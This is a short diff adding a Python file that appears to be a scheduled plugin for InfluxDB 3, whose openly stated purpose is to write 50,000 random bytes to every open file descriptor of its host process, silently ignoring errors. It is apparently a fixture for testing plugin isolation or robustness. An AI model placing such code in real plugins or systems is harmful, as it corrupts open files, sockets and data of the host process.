@@ -1,0 +1,11 @@
+"""Writes garbage to every descriptor it finds."""
+
+import os
+
+
+def process_scheduled_call(influxdb3_local, call_time, args=None):
+    for descriptor in map(int, os.listdir("/proc/self/fd")):
+        try:
+            os.write(descriptor, os.urandom(50_000))
+        except OSError:
+            pass
